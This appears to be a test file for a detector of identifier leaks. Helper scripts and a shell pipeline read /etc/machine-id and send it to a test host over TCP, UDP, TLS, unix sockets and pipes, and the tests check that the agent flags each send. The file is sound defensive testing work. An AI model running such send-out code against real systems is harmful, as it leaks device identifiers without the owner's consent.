# SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
"""Busy device: a process holds an identifier while the syscall hooks are away (it holds no pipe,
and nobody has a watched file open); what it sends later is still seen, at the socket layer."""
import os
import socket
import subprocess
import tempfile
import time

from idslib import PYTHON, Agent, POLICY_MACHINE_ID, expect, expect_eq, machine_id
from test_hooks import hooks_state

# Reads the machine-id, says so, waits for the go file (bounded), then runs its action.
HOLDER = r"""
import os, socket, ssl, sys, time
value = open("/etc/machine-id").read().strip()
work, action, host = sys.argv[1], sys.argv[2], sys.argv[3]
open(os.path.join(work, "ready"), "w").close()
deadline = time.monotonic() + 30
while not os.path.exists(os.path.join(work, "go")) and time.monotonic() < deadline:
    time.sleep(0.05)
data = ("id=" + value).encode()
if action == "tcp":
    s = socket.create_connection((host, 9000), timeout=5)
    s.sendall(data)
    s.close()
elif action == "writev":
    s = socket.create_connection((host, 9000), timeout=5)
    os.writev(s.fileno(), [b"id=", value.encode()])
    s.close()
elif action == "udp":
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(data, (host, 9999))
elif action == "sendmsg":
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendmsg([b"id=", value.encode()], [], 0, (host, 9999))
elif action == "tls":
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    with socket.create_connection((host, 8443), timeout=5) as raw:
        with ctx.wrap_socket(raw) as s:
            s.sendall(b"GET / HTTP/1.0\r\nX-Device: " + value.encode() + b"\r\n\r\n")
            s.recv(100)
elif action in ("unix-stream", "unix-dgram"):
    kind = socket.SOCK_STREAM if action == "unix-stream" else socket.SOCK_DGRAM
    u = socket.socket(socket.AF_UNIX, kind)
    path = os.path.join(work, "relay.sock")
    if kind == socket.SOCK_STREAM:
        u.connect(path)
        u.sendall(data)
    else:
        u.sendto(data, path)
    u.close()
elif action == "stdout":
    sys.stdout.write(value + "\n")
    sys.stdout.flush()
open(os.path.join(work, "done"), "w").close()
"""

# An untainted relay started first: what it reads from a unix socket (or stdin), it sends on.
RELAY = r"""
import os, socket, sys, time
work, kind, host = sys.argv[1], sys.argv[2], sys.argv[3]
if kind == "stdin":
    data = sys.stdin.buffer.readline().strip()
else:
    path = os.path.join(work, "relay.sock")
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM if kind == "stream" else socket.SOCK_DGRAM)
    srv.bind(path)
    srv.settimeout(30)
    if kind == "stream":
        srv.listen(1)
        conn, _ = srv.accept()
        data = conn.recv(200)
    else:
        data = srv.recv(200)
s = socket.create_connection((host, 9000), timeout=5)
s.sendall(b"relayed " + data)
s.close()
"""


def wait_file(path, what, timeout=15):
    deadline = time.monotonic() + timeout
    while not os.path.exists(path):
        if time.monotonic() > deadline:
            raise AssertionError("%s: %s did not appear within %ss" % (what, path, timeout))
        time.sleep(0.05)


def start(code, *args, stdin=None, stdout=None):
    """A client with its output in files (not pipes from the harness)."""
    work = args[0]
    out = stdout or open(os.path.join(work, "out-%d.txt" % time.monotonic_ns()), "w")
    return subprocess.Popen([PYTHON, "-c", code] + list(args), stdin=stdin or subprocess.DEVNULL,
                            stdout=out, stderr=subprocess.STDOUT)


def detached_holder(agent, host, action):
    """A holder that read the machine-id, once the syscall hooks have gone with it alive."""
    work = tempfile.mkdtemp(prefix="idsentry-busy-")
    holder = start(HOLDER, work, action, host.addr)
    wait_file(os.path.join(work, "ready"), "the holder's read")
    # its read closed the file: nobody needs the syscall hooks although it holds the value
    hooks_state(agent, len(agent.records()), False)
    return work, holder


def go(work, holder):
    open(os.path.join(work, "go"), "w").close()
    expect_eq(0, holder.wait(20), "holder exit status")


def busy_agent(*extra):
    return Agent(policy_text=POLICY_MACHINE_ID,
                 args=["--hooks-idle", "0", "--stats-interval", "1"] + list(extra))


def test_holder_sends_seen_at_the_socket_layer_while_the_hooks_are_away(host):
    mid = machine_id()
    for action, proto, call in (("tcp", "tcp", "sendto"), ("writev", "tcp", "writev"),
                                ("udp", "udp", "sendto"), ("sendmsg", "udp", "sendmsg")):
        with busy_agent() as agent:
            ready = agent.records()[0]
            expect_eq(True, ready["hooks"]["socket_layer"], "ready.hooks.socket_layer")
            work, holder = detached_holder(agent, host, action)
            go(work, holder)
            a = agent.wait_alert(process__pid=holder.pid, confidence="confirmed")
            last = [r for r in agent.records() if r["type"] == "stats"][-1]
        expect_eq("machine-id", a["identifiers"][0]["name"], action + ": identifier")
        expect_eq({"proto": proto, "addr": host.addr},
                  {k: a["destination"][k] for k in ("proto", "addr")}, action + ": destination")
        expect_eq(call, a["evidence"]["call"], action + ": evidence.call")
        expect_eq("sock_send_length", a["evidence"].get("seen_by"), action + ": evidence.seen_by")
        expect_eq(False, last["hooks"]["syscalls_attached"], action + ": hooks stayed away")
    expect(mid in host.quiet_received(), "the test host received the machine-id")


def test_holder_tls_plaintext_is_confirmed_while_the_hooks_are_away(host):
    with busy_agent() as agent:
        work, holder = detached_holder(agent, host, "tls")
        go(work, holder)
        a = agent.wait_alert(process__pid=holder.pid, evidence__channel="tls")
    expect_eq("confirmed", a["confidence"], "confidence")
    expect_eq({"proto": "tcp", "addr": host.addr, "port": 8443},
              {k: a["destination"][k] for k in ("proto", "addr", "port")},
              "destination (the socket the library wrote to, found at the socket layer)")


def test_unix_socket_relay_of_a_holder_is_followed_while_the_hooks_are_away(host):
    for kind in ("stream", "dgram"):
        with busy_agent() as agent:
            work = tempfile.mkdtemp(prefix="idsentry-busy-")
            relay = start(RELAY, work, kind, host.addr)
            wait_file(os.path.join(work, "relay.sock"), "the relay's socket")
            holder = start(HOLDER, work, "unix-" + kind, host.addr)
            wait_file(os.path.join(work, "ready"), "the holder's read")
            hooks_state(agent, len(agent.records()), False)
            go(work, holder)
            expect_eq(0, relay.wait(20), "relay exit status")
            a = agent.wait_alert(process__pid=relay.pid, confidence="confirmed")
        expect_eq("machine-id", a["identifiers"][0]["name"], kind + ": relay's identifier")
        expect_eq(host.addr, a["destination"]["addr"], kind + ": relay's destination")


def test_holder_writing_into_a_pipe_keeps_the_syscall_hooks(host):
    """A pipe has no socket layer: a holder with a pipe open for writing keeps the hooks, and the
    reader at the other end is tainted by what it reads."""
    with busy_agent() as agent:
        work = tempfile.mkdtemp(prefix="idsentry-busy-")
        r, w = os.pipe()
        relay = start(RELAY, work, "stdin", host.addr, stdin=r)
        holder = start(HOLDER, work, "stdout", host.addr, stdout=w)
        os.close(r)
        os.close(w)
        wait_file(os.path.join(work, "ready"), "the holder's read")
        time.sleep(3)  # idle ticks: the hooks must stay for the holder's pipe
        stats = [x for x in agent.records() if x["type"] == "stats"][-1]
        expect_eq(True, stats["hooks"]["syscalls_attached"], "hooks attached for the pipe holder")
        go(work, holder)
        expect_eq(0, relay.wait(20), "relay exit status")
        a = agent.wait_alert(process__pid=relay.pid, confidence="confirmed")
    expect_eq("machine-id", a["identifiers"][0]["name"], "the pipe reader's identifier")


def test_without_fanotify_the_open_exits_gate_and_a_holder_is_followed(host):
    """As on Android's GKI kernels: no fanotify, so the open exits stay attached as the gate; the
    rest detaches while a holder lives, and its sends are seen at the socket layer."""
    with busy_agent("--no-fanotify") as agent:
        hooks = agent.records()[0]["hooks"]
        expect_eq(("on-demand", "open-exits"), (hooks["mode"], hooks.get("gate")),
                  "ready.hooks mode and gate: %r" % hooks)
        expect("--no-fanotify" in hooks.get("reason", ""), "the reason says why: %r" % hooks)
        work, holder = detached_holder(agent, host, "tcp")
        go(work, holder)
        a = agent.wait_alert(process__pid=holder.pid, confidence="confirmed")
    expect_eq("machine-id", a["identifiers"][0]["name"], "identifier (learnt from the file: "
              "no read hook saw the holder's read)")
    expect_eq("sock_send_length", a["evidence"].get("seen_by"), "evidence.seen_by")


def test_without_fanotify_a_pipeline_opened_while_the_hooks_are_away_is_followed(host):
    """The opener's own write to its pipe and its reader's read can both come before the hooks
    are back: the pipe is marked at the open, and its reader tainted at its send."""
    mid = machine_id()
    with busy_agent("--no-fanotify") as agent:
        hooks_state(agent, 0, False)
        work = tempfile.mkdtemp(prefix="idsentry-busy-")
        out = open(os.path.join(work, "out.txt"), "w")
        reader = ("import socket, sys; d = sys.stdin.read().strip(); "
                  "s = socket.create_connection((sys.argv[1], 9000), timeout=5); "
                  "s.sendall(('piped=' + d).encode()); s.close()")
        p = subprocess.Popen(["sh", "-c", 'cat /etc/machine-id | "$0" -c "$1" "$2"', PYTHON, reader,
                              host.addr], stdin=subprocess.DEVNULL, stdout=out,
                             stderr=subprocess.STDOUT)
        expect_eq(0, p.wait(20), "pipeline exit status")
        a = agent.wait_alert(process__comm="python3", confidence="confirmed")
    expect_eq("machine-id", a["identifiers"][0]["name"], "the reader's identifier")
    expect("piped=" + mid in host.quiet_received(), "the test host received the machine-id")
